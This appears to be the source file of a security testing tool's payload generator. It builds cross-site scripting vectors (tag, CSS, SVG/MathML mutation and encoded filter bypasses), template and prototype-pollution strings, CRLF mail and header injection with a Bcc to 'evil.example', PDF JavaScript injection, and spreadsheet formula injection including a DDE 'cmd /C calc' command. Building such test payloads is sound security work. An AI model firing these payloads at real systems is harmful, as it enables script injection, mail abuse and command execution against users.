/** Payloads that would load something, or are harmless until they are decoded, interpolated or calculated. */
import type { Recipe } from './recipe.ts'

const LOADING: Recipe[] = [
  ...['img src', 'img srcset', 'input type=image src', 'video poster', 'video autoplay src', 'audio autoplay src'],
  ...['iframe src', 'embed src', 'object data', 'link rel=stylesheet href', 'link rel=prefetch href', 'base href'],
  ...['link rel=preconnect href', 'link rel=icon href', 'body background', 'table background', 'track src'],
  ...['meta http-equiv=refresh content=0;url', 'svg><image href', 'svg><use href', 'svg><feImage href', 'frame src'],
].map(
  (opening): Recipe =>
    (_, address) =>
      `<${opening}=${address}>`,
)

const STYLES: Recipe[] = [
  (_, address) => `<style>@import '${address}';</style>`,
  (_, address) => `<style>*{background:url(${address})}</style>`,
  (_, address) => `<style>@font-face{font-family:x;src:url(${address})}*{font-family:x}</style>`,
  (_, address) => `<p style="background:url(${address})">p`,
  (_, address) => `<p style="background:u\\72l(${address})">p`,
  (_, address) => `<p style="list-style:url(${address})">p`,
  (_, address) => `";background:url(${address});"`,
  (_, address) => `}*{background:url(${address})}`,
  (_, address) => `red;background-image:url(${address})`,
  (call) => `<p style="width:expression(${call})">p`,
  (call) => `<p style="behavior:url(javascript:${call})">p`,
  (call) => `<p style="-moz-binding:url(javascript:${call})">p`,
]

const FOREIGN: Recipe[] = [
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script>${call.replace('(', '&#40;')}</script></svg>`,
  (call) => `<svg><a href="javascript:${call}"><text y=9>a</text></a></svg>`,
  (call) => `<svg><a><animate attributeName=href values=javascript:${call} /><text>a</text></a></svg>`,
  (call) => `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  (call) => `<svg><style><img src=x onerror=${call}></style></svg>`,
  (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  (call) => `<math href="javascript:${call}">m</math>`,
  (call) => `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  (call) => `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
]

const ENCODED: Recipe[] = [
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`,
  (call) => `&#60;script&#62;${call}&#60;/script&#62;`,
  (call) => `&#x3c;img src=x onerror=${call}&#x3e;`,
  (call) => `&#0000060img src=x onerror=${call}&#0000062`,
  (call) => `&LT;svg onload=${call}&GT;`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `%253Csvg onload=${call}%253E`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `\\x3csvg onload=${call}\\x3e`,
  (call) => `\uFF1Cscript\uFF1E${call}\uFF1C/script\uFF1E`,
  (call) => `\u02C2img src=x onerror=${call}\u02C3`,
  (call) => `\u202E<svg onload=${call}>\u202C`,
  (call) => `\u200B<\u200Bscript>${call}</script>`,
  (call) => `<\u017Fcript>${call}</\u017Fcript>`,
  (call) => `<svg\u000Conload=${call}>`,
  (call) => `<svg\u000Bonload=${call}>`,
  (call) => `<img\u00A0src=x onerror=${call}>`,
  (call) => `\uFEFF<script>${call}</script>`,
  (call) => `\u2028${call}\u2029`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `';${call};'`,
  (call) => `";${call};"`,
  (call) => `</script><script>${call}//`,
  (call) => `\\';${call}//`,
]

const TEMPLATES: Recipe[] = [
  (call) => `{{${call}}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{{${call}}}}`,
  (call) => `\${${call}}`,
  (call) => `\`\${${call}}\``,
  (call) => `#{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `<?= ${call} ?>`,
  (call) => `{%raw%}<svg onload=${call}>{%endraw%}`,
  (call) => `[[${call}]]`,
  (call) => `$t(${call})`,
  (call) => `{{x, <svg onload=${call}>}}`,
  (call) => `%order.name%<svg onload=${call}>`,
  (call) => `%shop.name%%return.label_url%${call}`,
  (call) => `%<svg onload=${call}>%`,
  (call) => `{"__proto__":{"x":"${call}"}}`,
]

const HEADERS: Recipe[] = [
  (_, address) => `x\r\nBcc: a@evil.example\r\nX: ${address}`,
  (_, address) => `x\nSet-Cookie: a=1\nX: ${address}`,
  (call) => `x\r\n\r\n<script>${call}</script>`,
  (call) => `x%0d%0aContent-Type: text/html%0d%0a%0d%0a<script>${call}</script>`,
  (_, address) => `x\rSubject: ${address}`,
  (call) => `=?utf-8?B?${btoa(`<svg onload=${call}>`)}?=`,
  (call) => `) /S /JavaScript /JS (${call}) >> (`,
  (_, address) => `) Tj /A << /S /URI /URI (${address}) >> (`,
]

/** A spreadsheet treats a cell that begins like this as a formula. */
export const FORMULA_RECIPES: Recipe[] = ['=', '+', '-', '@', '\t=', '\r=', '|', '＝'].flatMap((start): Recipe[] => [
  (_, address) => `${start}HYPERLINK("${address}")`,
  (call) => `${start}1+1 ${call}`,
  (call) => `${start}cmd|' /C calc'!A0 ${call}`,
])

export const TEXT_RECIPES: readonly Recipe[] = [LOADING, STYLES, FOREIGN, ENCODED, TEMPLATES, HEADERS].flat()
